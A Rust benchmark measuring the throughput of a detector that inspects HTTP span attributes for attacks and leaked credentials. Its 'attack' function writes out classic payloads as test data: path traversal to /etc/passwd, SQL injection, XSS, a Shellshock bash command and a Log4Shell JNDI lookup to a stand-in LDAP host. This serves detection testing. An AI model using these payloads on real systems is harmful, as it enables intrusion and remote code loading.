//! What looking at spans for attacks and credentials costs: spans a second on one core, six attributes of
//! each inspected.
//!
//!     cargo bench --bench threats -- [--spans N]

#![allow(clippy::print_stdout)] // figures are what it is for

use std::time::Instant;

use clap::Parser;
use threats::inspect::{Input, Lens};
use threats::secrets::Secrets;

/// What to measure.
#[derive(Parser)]
struct Arguments {
    /// Spans of each kind
    #[arg(long, default_value_t = 200_000)]
    spans: usize,
    /// Cargo's own word to a bench
    #[arg(long, hide = true)]
    bench: bool,
}

type Attributes = Vec<(String, String)>;

/// A request as browsers send it; each is a little different, so that nothing is remembered.
fn ordinary(number: usize) -> Attributes {
    let pair = |key: &str, value: String| (key.to_owned(), value);
    vec![
        pair(
            "url.path",
            format!("/shop/products/{number}/reviews/latest"),
        ),
        pair(
            "url.query",
            format!(
                "page={}&sort=price&q=blue+shoes+{number}&lang=en",
                number % 40
            ),
        ),
        pair(
            "user_agent.original",
            format!(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36",
                90 + number % 50
            ),
        ),
        pair(
            "http.request.header.referer",
            format!("https://shop.example/categories/{number}?from=mail"),
        ),
        pair(
            "http.request.header.cookie",
            format!("session=k{number}x; theme=dark"),
        ),
        pair(
            "http.request.header.accept-language",
            "en-GB,en;q=0.9".to_owned(),
        ),
    ]
}

/// One of a campaign: every attribute is worth a look.
fn attack(number: usize) -> Attributes {
    let mut attributes = ordinary(number);
    attributes[0].1 = format!("/shop/..%2f..%2f..%2fetc%2fpasswd?{number}");
    attributes[1].1 = format!(
        "id={number}%27%20union%20select%20null,version()--%20&q=%3Csvg%20onload=alert(1)%3E"
    );
    attributes[2].1 = "() { :;}; /bin/bash -c 'id'".to_owned();
    attributes[3].1 = format!(
        "https://x.example/?u={}",
        "${${lower:j}ndi:ldap://x.example/a}"
    );
    attributes
}

fn measure(lens: &Lens, name: &str, spans: usize, make: fn(usize) -> Attributes) {
    let made: Vec<Attributes> = (0..spans.min(20_000)).map(make).collect();
    let begin = Instant::now();
    let flagged = (0..spans)
        .filter(|number| {
            lens.look(Input::Span {
                attributes: &made[number % made.len()],
                body: None,
            })
            .flagged
        })
        .count();
    let elapsed = begin.elapsed();
    println!(
        "{name}: {:.0} spans/s, {:.1} µs a span, {flagged} of {spans} flagged",
        spans as f64 / elapsed.as_secs_f64(),
        elapsed.as_secs_f64() * 1e6 / spans as f64
    );
}

fn main() {
    let arguments = Arguments::parse();
    let begin = Instant::now();
    let lens = Lens::new(Secrets::built_in());
    println!("built in {:.0} ms", begin.elapsed().as_secs_f64() * 1e3);
    measure(&lens, "ordinary traffic", arguments.spans, ordinary);
    measure(&lens, "a campaign", arguments.spans / 10, attack);
}
